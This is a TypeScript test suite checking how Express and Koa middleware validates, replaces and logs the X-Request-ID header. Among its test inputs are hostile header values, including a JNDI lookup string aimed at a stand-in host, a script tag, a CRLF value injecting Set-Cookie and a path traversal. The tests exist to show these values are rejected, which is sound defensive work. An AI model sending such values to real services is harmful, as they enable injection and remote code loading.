import { describe, expect, test } from 'vitest'
import * as expressFace from '../../src/adapters/express/index.ts'
import * as koaFace from '../../src/adapters/koa/index.ts'
import { BizError } from '../../src/catalogs/cloud-waf.ts'
import { BizError as SecretsError } from '../../src/catalogs/secrets.ts'
import { frameworks, type Route } from '../support/frameworks.ts'
import { exchange, type RawRequest } from '../support/raw.ts'
import { expectGuarantees, run, type Outcome } from '../support/guarantees.ts'
import { expressApps, koaApps, onAll, onThese, type App } from '../support/served.ts'

const UUID = /^[\da-f]{8}-[\da-f]{4}-4[\da-f]{3}-[89ab][\da-f]{3}-[\da-f]{12}$/

const fail: Route = () => {
  throw new SecretsError('secret_not_found')
}

/** The one id of an answer: in its header, its body and its log. */
function idOf({ framework, headers, body, reports, log }: Outcome): string {
  const [id = '', ...others] = headers.get('x-request-id') ?? []
  expect(others, `${framework}: one header`).toEqual([])
  expect(JSON.parse(body), `${framework}: body`).toEqual({
    error: { code: 'secret_not_found', message: 'Secret not found', request_id: id },
  })
  expect(
    reports.map(({ requestId }) => requestId),
    `${framework}: report`,
  ).toEqual([id])
  expect(
    log.map(([, record]) => record as { requestId?: unknown }).map(({ requestId }) => requestId),
    `${framework}: log`,
  ).toEqual([id])
  return id
}

/** Sends bytes as they are, since a client would not. The blank line is added. */
function idFor(title: string, lines: readonly string[], expected: string | RegExp, secret?: string): void {
  onAll(title, { routes: { '/': fail } }, async ({ framework, port, reports, log }) => {
    const raw = await exchange(
      port,
      Buffer.from(
        ['GET / HTTP/1.1', 'Host: test', 'Connection: close', ...lines, '', ''].join('\r\n'),
        'latin1',
      ),
    )
    const [head = '', body = ''] = raw.split('\r\n\r\n')
    const ids = [...head.matchAll(/^x-request-id: (.*)$/gim)].map(([, id]) => id!)
    const id = idOf({
      framework,
      raw,
      status: 404,
      headers: new Map([['x-request-id', ids]]),
      body,
      milliseconds: 0,
      reports,
      log,
    })
    if (secret) expect(raw + JSON.stringify(log)).not.toContain(secret)
    if (typeof expected === 'string') expect(id).toBe(expected)
    else expect(id).toMatch(expected)
  })
}

const request = (id: string): string =>
  `GET / HTTP/1.1\r\nHost: test\r\nConnection: close\r\nX-Request-ID: ${id}\r\n\r\n`

/** Apps where `put` runs before and after requestId, and in the handler that fails. */
function around(
  put: (response: { setHeader: (name: string, value: string | string[]) => unknown }) => void,
  where: 'before' | 'after' | 'instead',
): readonly App[] {
  return [
    ...expressApps((app, options) => {
      app.use((_request, response, next) => {
        if (where !== 'after') put(response)
        next()
      })
      if (where !== 'instead') app.use(expressFace.requestId())
      app.use((_request, response) => {
        if (where === 'after') put(response)
        throw new SecretsError('secret_not_found')
      })
      app.use(expressFace.errorHandler(options))
    }),
    ...koaApps((app, options) => {
      app.use((context, next) => {
        if (where !== 'after') put(context.res)
        return next()
      })
      app.use(koaFace.errorHandler(options))
      if (where !== 'instead') app.use(koaFace.requestId())
      app.use((context) => {
        if (where === 'after') put(context.res)
        throw new SecretsError('secret_not_found')
      })
    }),
  ]
}

describe('R. X-Request-ID', () => {
  idFor('P-R01: an id is made where the client sends none', [], UUID)
  for (const id of ['abc-123', 'a', 'A.b_c:d=e-f', '0', 'x'.repeat(200)]) {
    idFor(
      `P-R01: the id ${id.slice(0, 20)} of the client is in header, body and log`,
      [`X-Request-ID: ${id}`],
      id,
    )
  }
  idFor('P-R01: the name of the header may be in any case', ['x-REQUEST-id: abc-123'], 'abc-123')

  test('P-R01: ids that are made differ from request to request', async () => {
    for (const framework of frameworks) {
      const outcomes = await Promise.all(
        Array.from({ length: 5 }, () =>
          run(framework, { route: fail, request: { headers: { 'X-Request-ID': '' } } }),
        ),
      )
      expect(new Set(outcomes.map(idOf)).size).toBe(5)
    }
  })

  for (const value of ['', ' ', '   ', '\t', ' \t ']) {
    idFor(`P-R02: an id is made for the value ${JSON.stringify(value)}`, [`X-Request-ID:${value}`], UUID)
  }
  idFor('P-R02: blanks around an id do not belong to it', ['X-Request-ID:   abc-123 \t'], 'abc-123')

  for (const length of [201, 8_192, 15_000]) {
    idFor(
      `P-R03: an id of ${length} characters is replaced`,
      [`X-Request-ID: ${'a'.repeat(length)}`],
      UUID,
      'a'.repeat(201),
    )
  }

  onAll(
    'P-R04: an id of 64 KB is refused by Node before the app sees it, and the server lives',
    { routes: { '/': fail } },
    async ({ port, reports }) => {
      // Node closes while the rest is still being sent, so that the client may see a reset before the answer.
      const refused = await exchange(port, request('a'.repeat(65_536))).catch(
        ({ code }: NodeJS.ErrnoException) => code,
      )
      expect([
        'HTTP/1.1 431 Request Header Fields Too Large\r\nConnection: close\r\n\r\n',
        'ECONNRESET',
      ]).toContain(refused)
      expect(reports).toEqual([])
      expect(await exchange(port, request('abc-123'))).toContain('X-Request-ID: abc-123')
    },
  )

  for (const value of [
    '","admin":true,"x":"',
    '<script>',
    '${jndi:ldap://evil.example/a}',
    '%s%n',
    '../../x',
    'a%0d%0aSet-Cookie:x',
    'a\tb',
    'a b',
    'a,b',
    "a'b",
    'a\\b',
    '{}',
  ]) {
    idFor(`P-R05: the id ${JSON.stringify(value)} is replaced`, [`X-Request-ID: ${value}`], UUID, value)
  }

  for (const [name, value] of Object.entries({
    'UTF-8 text': Buffer.from('zürich-日本').toString('latin1'),
    'a Latin-1 letter': 'z\xfcrich',
    'the byte 0xff': 'a\xff',
    'a no-break space after it': 'abc-123\xa0',
  })) {
    idFor(`P-R06: an id with ${name} is replaced`, [`X-Request-ID: ${value}`], UUID, value)
  }

  idFor('P-R07: two ids are replaced', ['X-Request-ID: first-id', 'X-Request-ID: other-id'], UUID, 'first-id')
  idFor(
    'P-R07: the same id twice is replaced',
    ['X-Request-ID: first-id', 'x-request-id: first-id'],
    UUID,
    'first-id',
  )

  const alive: Readonly<Record<string, readonly [number, Route]>> = {
    'a 200': [200, (_request, response) => void response.writeHead(200).end('x')],
    'a 204': [204, (_request, response) => void response.writeHead(204).end()],
    'a 304': [304, (_request, response) => void response.writeHead(304).end()],
    'a 409': [
      409,
      () => {
        throw new BizError(1006)
      },
    ],
    'a 429': [
      429,
      () => {
        throw new BizError(5008)
      },
    ],
    'a 401': [
      401,
      () => {
        throw new BizError(401)
      },
    ],
    'a 500': [
      500,
      () => {
        throw new Error('x')
      },
    ],
  }
  for (const method of ['GET', 'HEAD', 'POST', 'OPTIONS']) {
    for (const [name, [status, route]] of Object.entries({
      ...alive,
      'a 404': [404, undefined] as const,
    })) {
      for (const [whose, sent, id] of [
        ["the client's id", ['X-Request-ID: abc-123'], /^abc-123$/],
        ['an id of its own', [], UUID],
      ] as const) {
        onAll(
          `P-R08: ${name} has ${whose}, for ${method}`,
          { routes: route ? { '/': route } : {} },
          async ({ port }) => {
            const raw = await exchange(
              port,
              [`${method} / HTTP/1.1`, 'Host: test', 'Connection: close', ...sent, '', ''].join('\r\n'),
            )
            expect(raw.slice(0, 12)).toBe(`HTTP/1.1 ${status}`)
            const ids = [...raw.matchAll(/^x-request-id: (.*)$/gim)].map(([, value]) => value)
            expect(ids).toEqual([expect.stringMatching(id)])
          },
        )
      }
    }
  }

  const traceparent = 'traceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01'
  idFor('P-R09: an id is made where only traceparent is sent', [traceparent], UUID, '4bf92f35')
  idFor(
    'P-R09: X-Request-ID counts where both are sent',
    [traceparent, 'X-Request-ID: abc-123'],
    'abc-123',
    '4bf92f35',
  )
  for (const malformed of ['', '00', 'x'.repeat(5_000), '00-<script>-1-01', '00-4bf9', '\xff']) {
    idFor(
      `P-R09: a malformed traceparent changes nothing: ${JSON.stringify(malformed.slice(0, 20))}`,
      [`traceparent: ${malformed}`],
      UUID,
    )
  }

  for (const where of ['before', 'after', 'instead'] as const) {
    for (const [name, value, expected] of [
      ['an id', 'theirs', /^theirs$/],
      ['no id', 'not an id', /^abc-123$/],
      ['two ids', ['first-id', 'other-id'], /^abc-123$/],
    ] as const) {
      onThese(
        `P-R10: header, body and log have one id where other middleware sets ${name} ${where} ${where === 'instead' ? 'of requestId' : 'it'}`,
        around(
          (response) => response.setHeader('x-request-id', typeof value === 'string' ? value : [...value]),
          where,
        ),
        async ({ framework, port, reports, log }) => {
          const raw = await exchange(
            port,
            'GET / HTTP/1.1\r\nHost: test\r\nConnection: close\r\nX-Request-ID: abc-123\r\n\r\n',
          )
          const [head = '', body = ''] = raw.split('\r\n\r\n')
          const ids = [...head.matchAll(/^x-request-id: (.*)$/gim)].map(([, id]) => id!)
          const headers = new Map([['x-request-id', ids]])
          expect(idOf({ framework, raw, status: 404, headers, body, milliseconds: 0, reports, log })).toMatch(
            expected,
          )
        },
      )
    }
  }

  onThese(
    'P-R10: an error answer has an id where requestId is not mounted at all',
    around(() => {}, 'instead'),
    async ({ port, reports }) => {
      const raw = await exchange(port, 'GET / HTTP/1.1\r\nHost: test\r\nConnection: close\r\n\r\n')
      const [, id] = /^X-Request-ID: (.*)$/m.exec(raw)!
      expect(id?.trim()).toMatch(UUID)
      expect(reports.map(({ requestId }) => requestId)).toEqual([id?.trim()])
    },
  )

  const probe: Partial<RawRequest> = { headers: { 'X-Request-ID': '' } }
  test('P-R01: the answer with an id of its own keeps the guarantees', async () => {
    for (const framework of frameworks) {
      expectGuarantees(await run(framework, { route: fail, request: probe }), { route: fail, request: probe })
    }
  })
})
